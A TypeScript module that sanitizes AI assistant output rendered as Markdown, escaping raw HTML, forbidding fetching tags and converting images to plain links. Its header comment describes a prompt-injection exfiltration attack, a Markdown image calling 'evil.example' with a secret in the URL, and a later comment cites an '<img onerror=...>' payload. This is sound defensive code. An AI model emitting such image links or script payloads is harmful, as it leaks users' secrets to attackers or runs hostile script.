/**
 * Assistant text as Markdown, made safe. Model output is untrusted: raw HTML in it is shown as
 * text (never parsed), and the HTML that Markdown produces still goes through DOMPurify, which
 * also drops `javascript:` links. Links open in a new tab without access to this page.
 *
 * No images: an image loads by itself, so a prompt-injected `![](https://evil.example/?q=<secret>)`
 * would send whatever the model was tricked into writing to that address without anyone clicking.
 * Markdown images become links (their alt text, or the address), which load only when followed.
 */
import { Marked, type Renderer, type Tokens } from 'marked';
import DOMPurify from 'dompurify';

const escapeHtml = (text: string) =>
  text.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c]!);

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    // Inline and block HTML in the source: escaped, so `<img onerror=...>` reads as text.
    html: ({ text }) => escapeHtml(text),
    image(this: Renderer, { href, text, tokens }: Tokens.Image) {
      const label = tokens ? this.parser.parseInline(tokens, this.parser.textRenderer) : text;
      return `<a href="${escapeHtml(href)}" class="image-link" title="Image not shown">${escapeHtml(label || href)}</a>`;
    },
  },
});

/** Tags that fetch something by themselves, or that have no place in a chat answer. */
const FORBID_TAGS = ['img', 'picture', 'source', 'video', 'audio', 'track', 'svg', 'math', 'object', 'embed', 'style', 'link', 'meta', 'form', 'input', 'button', 'iframe'];

let hooked = false;

export function renderMarkdown(text: string): string {
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer nofollow');
      }
    });
  }
  const html = marked.parse(text, { async: false });
  return DOMPurify.sanitize(html, { USE_PROFILES: { html: true }, FORBID_TAGS, FORBID_ATTR: ['style', 'srcset', 'background', 'poster'] });
}
